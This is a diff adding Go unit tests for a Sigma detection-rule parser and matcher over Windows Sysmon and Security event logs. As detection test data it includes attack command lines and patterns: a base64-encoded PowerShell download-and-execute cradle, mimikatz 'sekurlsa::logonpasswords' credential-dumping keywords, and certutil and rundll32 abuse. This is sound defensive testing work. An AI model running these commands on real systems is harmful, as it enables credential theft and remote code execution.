@@ -0,0 +1,381 @@
+//go:build windows || linux
+// +build windows linux
+
+package main
+
+import (
+	"context"
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func mustParseSigmaRule(t *testing.T, source string) *sigmaRule {
+	t.Helper()
+	rules, unsupported, err := parseSigmaRules([]byte(source))
+	if err != nil {
+		t.Fatalf("parseSigmaRules: %v", err)
+	}
+	if len(rules) != 1 || len(unsupported) != 0 {
+		t.Fatalf("got %d rules, unsupported %q, want 1 rule", len(rules), unsupported)
+	}
+	return rules[0]
+}
+
+func processEvent(image, commandLine string) LogAnalysis {
+	return LogAnalysis{
+		Source:  "Microsoft-Windows-Sysmon",
+		EventID: 1,
+		Channel: SysmonLog,
+		Data:    map[string]string{"Image": image, "CommandLine": commandLine, "User": "CORP\\alice"},
+	}
+}
+
+func TestSigmaRuleMatch(t *testing.T) {
+	encoded := base64.StdEncoding.EncodeToString([]byte(utf16LE("IEX (New-Object Net.WebClient).DownloadString('http://x')")))
+
+	tests := []struct {
+		name      string
+		detection string
+		event     LogAnalysis
+		want      bool
+	}{
+		{
+			name: "默认匹配不区分大小写且支持通配符",
+			detection: `
+  selection:
+    Image: 'C:\Windows\sys*\cmd.exe'
+  condition: selection`,
+			event: processEvent(`c:\windows\system32\CMD.EXE`, "cmd /c whoami"),
+			want:  true,
+		},
+		{
+			name: "转义的通配符按字面匹配",
+			detection: `
+  selection:
+    CommandLine: 'echo \*'
+  condition: selection`,
+			event: processEvent(`C:\Windows\System32\cmd.exe`, "echo abc"),
+			want:  false,
+		},
+		{
+			name: "列表中的值为或",
+			detection: `
+  selection:
+    Image|endswith:
+      - '\powershell.exe'
+      - '\pwsh.exe'
+  condition: selection`,
+			event: processEvent(`C:\Program Files\PowerShell\7\pwsh.exe`, "pwsh"),
+			want:  true,
+		},
+		{
+			name: "contains|all要求全部包含",
+			detection: `
+  selection:
+    CommandLine|contains|all:
+      - ' -nop '
+      - ' -w hidden '
+  condition: selection`,
+			event: processEvent(`C:\Windows\powershell.exe`, "powershell -nop -enc AAAA"),
+			want:  false,
+		},
+		{
+			name: "startswith和re",
+			detection: `
+  selection:
+    CommandLine|startswith: 'rundll32'
+    CommandLine|re: ',\s*#\d+$'
+  condition: selection`,
+			event: processEvent(`C:\Windows\rundll32.exe`, "rundll32 evil.dll,#1"),
+			want:  true,
+		},
+		{
+			name: "base64offset匹配编码后的命令行",
+			detection: `
+  selection:
+    CommandLine|wide|base64offset|contains: 'Net.WebClient'
+  condition: selection`,
+			event: processEvent(`C:\Windows\powershell.exe`, "powershell -enc "+encoded),
+			want:  true,
+		},
+		{
+			name: "1 of和not",
+			detection: `
+  selection_img:
+    Image|endswith: '\certutil.exe'
+  selection_cli:
+    CommandLine|contains: 'urlcache'
+  filter:
+    User|contains: 'SYSTEM'
+  condition: 1 of selection_* and not filter`,
+			event: processEvent(`C:\Windows\System32\certutil.exe`, "certutil -decode a b"),
+			want:  true,
+		},
+		{
+			name: "all of them",
+			detection: `
+  selection_img:
+    Image|endswith: '\certutil.exe'
+  selection_cli:
+    CommandLine|contains: 'urlcache'
+  condition: all of them`,
+			event: processEvent(`C:\Windows\System32\certutil.exe`, "certutil -decode a b"),
+			want:  false,
+		},
+		{
+			name: "括号和null",
+			detection: `
+  selection:
+    Image|endswith: '\whoami.exe'
+  parent:
+    ParentImage: null
+  condition: (selection and parent) or not selection`,
+			event: processEvent(`C:\Windows\System32\whoami.exe`, "whoami /all"),
+			want:  true,
+		},
+		{
+			name: "关键字匹配任一字段",
+			detection: `
+  keywords:
+    - 'mimikatz'
+    - 'sekurlsa'
+  condition: keywords`,
+			event: processEvent(`C:\Temp\m.exe`, "m.exe privilege::debug sekurlsa::logonpasswords"),
+			want:  true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rule := mustParseSigmaRule(t, "title: test\nlogsource:\n  product: windows\n  category: process_creation\ndetection:"+tt.detection)
+			if got := rule.matches(tt.event.Channel, tt.event); got != tt.want {
+				t.Errorf("matches = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSigmaRuleLogSource(t *testing.T) {
+	rule := mustParseSigmaRule(t, `
+title: Security Log Cleared
+id: d99b79d2-0a6f-4f46-ad8b-260b6e17f982
+level: high
+tags:
+  - attack.defense_evasion
+  - attack.t1070.001
+logsource:
+  product: windows
+  service: security
+detection:
+  selection:
+    EventID: 1102
+    Provider_Name: Microsoft-Windows-Eventlog
+  condition: selection
+`)
+	if len(rule.sources) != 1 || rule.sources[0].channel != SecurityLog {
+		t.Errorf("sources = %v, want %q", rule.sources, SecurityLog)
+	}
+	if got, want := rule.attackTags(), []string{"defense_evasion", "T1070.001"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("attackTags = %q, want %q", got, want)
+	}
+	event := LogAnalysis{Source: "Microsoft-Windows-Eventlog", EventID: 1102, Channel: SecurityLog}
+	if !rule.matches(SecurityLog, event) {
+		t.Error("1102 not matched")
+	}
+	event.EventID = 104
+	if rule.matches(SecurityLog, event) {
+		t.Error("104 matched")
+	}
+	event.EventID = 1102
+	if rule.matches(SystemLog, event) {
+		t.Error("1102 matched in System")
+	}
+}
+
+func TestSigmaProcessCreationSources(t *testing.T) {
+	rule := mustParseSigmaRule(t, `
+title: Office Spawning Shell
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  selection:
+    ParentImage|endswith: '\winword.exe'
+    Image|endswith: '\cmd.exe'
+    CommandLine|contains: 'whoami'
+  condition: selection
+`)
+
+	// Sysmon的1号事件
+	event := processEvent(`C:\Windows\System32\cmd.exe`, "cmd /c whoami")
+	event.Data["ParentImage"] = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
+	if !rule.matches(SysmonLog, event) {
+		t.Error("Sysmon event 1 not matched")
+	}
+	event.EventID = 5
+	if rule.matches(SysmonLog, event) {
+		t.Error("Sysmon event 5 matched")
+	}
+
+	// 安全日志的4688事件，字段名转换为Sysmon的字段名
+	security := LogAnalysis{
+		Source:  "Microsoft-Windows-Security-Auditing",
+		EventID: 4688,
+		Channel: SecurityLog,
+		Data: map[string]string{
+			"NewProcessName":    `C:\Windows\System32\cmd.exe`,
+			"ParentProcessName": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
+			"CommandLine":       "cmd /c whoami",
+		},
+	}
+	if !rule.matches(SecurityLog, security) {
+		t.Error("Security event 4688 not matched")
+	}
+	security.Data["NewProcessName"] = `C:\Windows\System32\notepad.exe`
+	if rule.matches(SecurityLog, security) {
+		t.Error("4688 with another image matched")
+	}
+	security.EventID = 4624
+	security.Data["NewProcessName"] = `C:\Windows\System32\cmd.exe`
+	if rule.matches(SecurityLog, security) {
+		t.Error("Security event 4624 matched")
+	}
+}
+
+func TestParseSigmaRulesErrors(t *testing.T) {
+	tests := []struct {
+		name   string
+		source string
+		want   string
+	}{
+		{"无效的正则表达式", "title: t\nlogsource:\n  service: security\ndetection:\n  sel:\n    a|re: '(b'\n  condition: sel", "missing closing )"},
+		{"未定义的检测项", "title: t\nlogsource:\n  service: security\ndetection:\n  sel:\n    a: b\n  condition: sel and filter", "filter"},
+		{"括号不匹配", "title: t\nlogsource:\n  service: security\ndetection:\n  sel:\n    a: b\n  condition: (sel", "parenthesis"},
+		{"缺少条件", "title: t\nlogsource:\n  service: security\ndetection:\n  sel:\n    a: b", "condition"},
+	}
+
+	if err := setLanguage("en"); err != nil {
+		t.Fatal(err)
+	}
+	defer setLanguage("zh")
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, _, err := parseSigmaRules([]byte(tt.source))
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("err = %v, want containing %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseSigmaRulesUnsupported(t *testing.T) {
+	tests := []struct {
+		name   string
+		source string
+		want   string
+	}{
+		{"非Windows日志源", "title: t\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  sel:\n    a: b\n  condition: sel", "product linux"},
+		{"未知的类别", "title: t\nlogsource:\n  product: windows\n  category: clipboard_capture\ndetection:\n  sel:\n    a: b\n  condition: sel", "clipboard_capture"},
+		{"不支持的修饰符", "title: t\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel", "windash"},
+		{"聚合条件", "title: t\nlogsource:\n  service: security\ndetection:\n  sel:\n    a: b\n  condition: sel | count() > 5", "aggregation"},
+		{"timeframe", "title: t\nlogsource:\n  service: security\ndetection:\n  sel:\n    a: b\n  timeframe: 5m\n  condition: sel", "aggregation"},
+	}
+
+	if err := setLanguage("en"); err != nil {
+		t.Fatal(err)
+	}
+	defer setLanguage("zh")
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rules, unsupported, err := parseSigmaRules([]byte(tt.source))
+			if err != nil {
+				t.Fatalf("err = %v, want rule skipped", err)
+			}
+			if len(rules) != 0 || len(unsupported) != 1 || !strings.Contains(unsupported[0], tt.want) {
+				t.Errorf("rules = %d, unsupported = %q, want one reason containing %q", len(rules), unsupported, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadSigmaRules(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"good.yml":         "title: good\nlogsource:\n  service: security\ndetection:\n  sel:\n    EventID: 1102\n  condition: sel\n",
+		"sub/multi.yaml":   "title: a\nlogsource:\n  service: system\ndetection:\n  sel:\n    EventID: 7045\n  condition: sel\n---\ntitle: b\nlogsource:\n  service: system\ndetection:\n  sel:\n    EventID: 104\n  condition: sel\n",
+		"bad.yml":          "title: bad\nlogsource:\n  service: security\ndetection:\n  condition: missing\n",
+		"linux/auth.yml":   "title: ssh\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  sel:\n    a: b\n  condition: sel\n",
+		"mixed.yml":        "title: c\nlogsource:\n  service: security\ndetection:\n  sel:\n    EventID: 4720\n  condition: sel\n---\ntitle: d\nlogsource:\n  product: macos\n  category: process_creation\ndetection:\n  sel:\n    a: b\n  condition: sel\n",
+		"notes/readme.txt": "not a rule",
+	}
+	for name, content := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	rules, skipped, problems, err := loadSigmaRules(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var titles []string
+	for _, rule := range rules {
+		titles = append(titles, rule.Title)
+	}
+	if want := []string{"good", "c", "a", "b"}; !reflect.DeepEqual(titles, want) {
+		t.Errorf("titles = %q, want %q", titles, want)
+	}
+	want := map[string]int{
+		"不支持的日志源: product linux": 1,
+		"不支持的日志源: product macos": 1,
+	}
+	if !reflect.DeepEqual(skipped, want) {
+		t.Errorf("skipped = %v, want %v", skipped, want)
+	}
+	if len(problems) != 1 || !strings.HasPrefix(problems[0], "bad.yml: ") {
+		t.Errorf("problems = %q", problems)
+	}
+
+	if _, _, _, err := loadSigmaRules(filepath.Join(dir, "notes")); err == nil {
+		t.Error("directory without rules: expected error")
+	}
+}
+
+func TestAnalyzeSigmaRulesSkipped(t *testing.T) {
+	dir := t.TempDir()
+	rules := "title: ssh\nlogsource:\n  product: linux\n  service: auth\ndetection:\n  sel:\n    a: b\n  condition: sel\n" +
+		"---\ntitle: enc\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|windash: '-enc'\n  condition: sel\n"
+	if err := os.WriteFile(filepath.Join(dir, "rules.yml"), []byte(rules), 0644); err != nil {
+		t.Fatal(err)
+	}
+	loaded, skipped, problems, err := loadSigmaRules(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	savedDir, savedRules, savedSkipped, savedProblems, savedLogDir := sigmaRuleDir, sigmaRules, sigmaSkipped, sigmaLoadProblems, eventLogDir
+	defer func() {
+		sigmaRuleDir, sigmaRules, sigmaSkipped, sigmaLoadProblems, eventLogDir = savedDir, savedRules, savedSkipped, savedProblems, savedLogDir
+	}()
+	sigmaRuleDir, sigmaRules, sigmaSkipped, sigmaLoadProblems, eventLogDir = dir, loaded, skipped, problems, t.TempDir()
+
+	// 不适用的规则只在汇总结果的详情中计数，不记为采集失败
+	var results []CheckResult
+	analyzeSigmaRules(context.Background(), &results)
+	if len(results) != 1 || results[0].Status != StatusOK {
+		t.Fatalf("results = %+v", results)
+	}
+	for _, reason := range []string{"product linux", "windash"} {
+		if !strings.Contains(results[0].Details, reason) {
+			t.Errorf("details missing %q:\n%s", reason, results[0].Details)
+		}
+	}
+}